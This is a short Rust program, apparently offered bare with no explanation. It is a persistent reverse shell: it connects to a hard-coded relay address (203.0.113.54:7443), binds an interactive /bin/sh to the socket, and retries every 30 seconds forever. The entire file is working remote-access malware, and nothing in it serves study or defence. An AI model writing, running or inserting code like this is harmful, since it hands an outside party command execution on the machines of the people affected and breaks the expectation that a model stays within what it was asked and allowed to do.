use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

const RELAY: &str = "203.0.113.54:7443";

fn session() -> std::io::Result<()> {
    let s = TcpStream::connect(RELAY)?;
    let fd = s.as_raw_fd();
    let mut child = Command::new("/bin/sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?;
    child.wait()?;
    Ok(())
}

fn main() {
    loop {
        let _ = session();
        thread::sleep(Duration::from_secs(30));
    }
}
